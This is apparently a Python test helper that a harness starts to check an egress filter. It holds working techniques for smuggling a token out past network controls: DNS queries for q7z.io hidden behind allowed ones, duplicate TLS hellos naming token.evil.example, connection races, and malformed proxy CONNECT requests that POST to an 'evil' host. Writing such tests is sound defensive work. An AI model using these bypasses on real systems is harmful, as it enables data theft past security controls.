# SPDX-License-Identifier: Apache-2.0
"""What a hostile program tries below the level of its libraries; packets.py starts it. Prints what happened to it.

usage: packet_ways.py WAY ARGUMENT...
"""
import base64
import ctypes
import errno
import os
import select
import socket
import ssl
import struct
import sys
import time

OWN, SHARED_NAME = "acme.my.salesforce.com", "models.acme.example"


def labels(name):
    return b"".join(bytes([len(x)]) + x.encode() for x in name.split(".")) + b"\0"


def gso(how, resolver, token):
    """An allowed question that the device cuts behind its OPT header: the RDATA is a question of its own. Its types are the token."""
    six = socket.AF_INET6 if ":" in resolver else socket.AF_INET
    s = socket.socket(six, socket.SOCK_DGRAM)
    if how != "unconnected":
        s.connect((resolver, 53))
    for i, c in enumerate(token.encode()):
        rogue = struct.pack("!HHHHHH", i, 0x0100, 1, 0, 0, 0) + labels("q7z.io") + struct.pack("!HH", 0x8000 | i << 8 | c, 1)
        head = struct.pack("!HHHHHH", 0x4242, 0x0100, 1, 0, 0, 1) + labels(OWN) + struct.pack("!HH", 1, 1) + b"\0" + struct.pack("!HHIH", 41, 1232, 0, len(rogue))
        if how == "option":
            s.setsockopt(17, 103, len(head))
            s.send(head + rogue)
        else:
            s.sendmsg([head + rogue], [(17, 103, struct.pack("H", len(head)))], 0, *([(resolver, 53)] if how == "unconnected" else []))


def gso_plain(addr, port, token):
    """Two datagrams in one send, to where datagrams may go."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect((addr, int(port)))
    s.sendmsg([token.encode() * 2], [(17, 103, struct.pack("H", len(token)))])


def dial_many(addr, port, token, n, ask):
    """N connections at once, each refused when its first packet leaves; what connects sends. `ask`: a name to ask for before."""
    if ask != "-":
        socket.getaddrinfo(ask, int(port))
    poll, waits, said = select.epoll(), {}, {}

    def tell(e):
        said[e] = said.get(e, 0) + 1
    for _ in range(int(n)):
        s = socket.socket(socket.AF_INET6 if ":" in addr else socket.AF_INET)
        s.setblocking(False)
        e = s.connect_ex((addr, int(port)))
        if e not in (0, errno.EINPROGRESS):
            tell(errno.errorcode[e])
            continue
        poll.register(s, select.EPOLLOUT)
        waits[s.fileno()] = s
    end = time.time() + 5
    while waits and time.time() < end:
        for fd, _ in poll.poll(0.3):
            s = waits.pop(fd)
            poll.unregister(fd)
            e = s.getsockopt(1, 4)
            tell(errno.errorcode[e] if e else "connected")
            if not e:
                try:
                    s.send(token.encode())
                except OSError as x:
                    tell("send " + errno.errorcode[x.errno])
    said["waits"] = len(waits)
    print(said)


def gone(addr, port, token, ask):
    """The process that connects is gone at once; a child has the socket."""
    if ask != "-":
        socket.getaddrinfo(ask, int(port))
    s = socket.socket(socket.AF_INET6 if ":" in addr else socket.AF_INET)
    r, w = os.pipe()
    if not os.fork():
        s.setblocking(False)
        s.connect_ex((addr, int(port)))
        os.write(w, b"x")
        os._exit(0)
    os.wait()
    os.read(r, 1)
    for _ in range(40):
        time.sleep(0.1)
        try:
            s.send(token.encode())
            print("sent")
            return
        except BlockingIOError:
            pass
        except OSError as e:
            if e.errno not in (errno.EPIPE, errno.ENOTCONN, errno.EAGAIN):
                raise
    print("not connected")


def again(addr, port, other, token):
    """A socket that was refused somewhere is used for an allowed host: nothing of the refusal stays."""
    libc = ctypes.CDLL(None, use_errno=True)
    s = socket.socket()
    s.settimeout(3)
    try:
        s.connect((addr, int(port)))
    except OSError as e:
        print(errno.errorcode.get(e.errno, e), end=" ")
        libc.connect(s.fileno(), b"\0" * 16, 16)
    s.connect((socket.gethostbyname(other), 80))
    s.send(("POST /x HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\n\r\n%s" % (other, len(token), token)).encode())
    s.recv(100)
    print("sent")


def first_hello(name):
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    into, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    t = ctx.wrap_bio(into, out, server_hostname=name)
    try:
        t.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return t, into, out, out.read()


def with_extension(hello, ext):
    """The hello with one extension more, at its end."""
    at = 5 + 4 + 34
    at += 1 + hello[at]
    at += 2 + struct.unpack("!H", hello[at:at + 2])[0]
    at += 1 + hello[at]
    body = hello[9:at] + struct.pack("!H", len(hello) - at - 2 + len(ext)) + hello[at + 2:] + ext
    return hello[:3] + struct.pack("!H", len(body) + 4) + b"\1" + struct.pack("!I", len(body))[1:] + body


def sni(name):
    n = name.encode()
    return struct.pack("!HHHBH", 0, len(n) + 5, len(n) + 3, 0, len(n)) + n


CCS, DATA = b"\x14\3\3\0\1\1", b"\x17\3\3\0\x14" + b"e" * 20


def hellos(how, token):
    """A foreign name behind an allowed one, in clear."""
    addr = socket.getaddrinfo(SHARED_NAME, 443, socket.AF_INET)[0][4][0]
    hello, foreign = first_hello(SHARED_NAME)[3], first_hello(token + ".evil.example")[3]
    early = with_extension(hello, struct.pack("!HH", 42, 0))
    flight = {"two-names": [with_extension(hello, sni(token + ".evil.example"))], "again": [hello, foreign], "again-cipher": [hello, CCS + foreign],
              "again-alert": [hello, b"\x15\3\3\0\2\1\x5a" + CCS + foreign], "again-early": [early, CCS + DATA + foreign],
              "again-pieces": [hello, CCS + b"".join(foreign[:3] + struct.pack("!H", 1) + foreign[i:i + 1] for i in range(5, 12)) +
                                        foreign[:3] + struct.pack("!H", len(foreign) - 12) + foreign[12:]], "one-segment": [hello + CCS + foreign]}[how]
    s = socket.create_connection((addr, 443), 5)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    for part in flight:
        s.send(part)
        time.sleep(0.05)
    time.sleep(0.2)
    s.send(b"x")
    print("sent")


def until(s, mark, seconds=4):
    got = b""
    s.settimeout(seconds)
    while mark not in got:
        d = s.recv(4096)
        if not d:
            raise ConnectionResetError(errno.ECONNRESET, "closed")
        got += d
    return got


def proxy(port, how, host, evil, token):
    """Through the tunnel of one name to another. `host`: an allowed one."""
    auth = b"Proxy-Authorization: Basic " + base64.b64encode(b"u:pw") + b"\r\n"
    t, into, out, hello = first_hello(host)
    good, bad = host.encode() + b":443", evil.encode() + b":443"
    ask = b"CONNECT " + bad + b" HTTP/1.1\r\nHost: " + bad + b"\r\n" + auth + b"\r\n"
    proper = b"CONNECT " + good + b" HTTP/1.1\r\nHost: " + good + b"\r\n"
    s = socket.create_connection((socket.gethostbyname("proxy.acme.example"), int(port)), 5)
    if how == "lf":  # to the proxy the end of a head, to who wants CR LF one of its lines
        s.send(b"CONNECT " + good + b" HTTP/1.1\nHost: x\n\n")
        time.sleep(0.3)
        s.recv(65536)
    elif how == "after-407":  # a proper one is refused, the next goes elsewhere
        s.send(proper + b"\r\n")
        time.sleep(0.5)
        s.recv(1 << 20)
    elif how == "early":  # the other is there before the first is answered
        s.send(proper + b"\r\n" + ask)
        until(s, b" 200 ")
    elif how == "plain-first":  # a plain request that is allowed, then a CONNECT on the same connection
        s.send(b"GET http://plain.acme.example/quiet HTTP/1.1\r\nHost: plain.acme.example\r\n" + auth + b"\r\n")
        time.sleep(0.5)
        s.recv(65536)
    elif how == "plain-then":  # a plain one that is allowed, then one that is not
        s.send(b"GET http://plain.acme.example/quiet HTTP/1.1\r\nHost: plain.acme.example\r\n" + auth + b"\r\n")
        time.sleep(0.5)
        s.recv(65536)
    elif how == "body-short":  # the length that the first says is not what its body has
        s.send(b"POST http://plain.acme.example/quiet HTTP/1.1\r\nHost: plain.acme.example\r\n" + auth + b"Content-Length: 5\r\n\r\nabcde")
        time.sleep(0.5)
        s.recv(65536)
    if how in ("plain-then", "body-short", "plain"):
        s.send(b"POST http://%s/x HTTP/1.1\r\nHost: %s\r\n%sContent-Length: %d\r\n\r\n%s" % (evil.encode(), evil.encode(), auth, len(token), token.encode()))
        s.recv(1000)
        print("sent")
        return
    if how != "early":
        s.send(ask)
        until(s, b" 200 ")
    s.send(hello)
    while True:
        try:
            t.do_handshake()
            break
        except ssl.SSLWantReadError:
            d = out.read()
            if d:
                s.send(d)
            d = s.recv(65536)
            if not d:
                raise ConnectionResetError(errno.ECONNRESET, "closed")
            into.write(d)
    d = out.read()
    t.write(("POST /x HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s" % (evil, len(token), token)).encode())
    s.send(d + out.read())
    s.recv(1000)
    print("sent")


def nothing():
    """For who wants the functions alone."""


try:
    {"none": nothing, "gso": gso, "gso-plain": gso_plain, "dial": dial_many, "gone": gone, "again": again, "hellos": hellos, "proxy": proxy}[sys.argv[1]](*sys.argv[2:])
except OSError as e:
    print("error", errno.errorcode.get(e.errno, e))
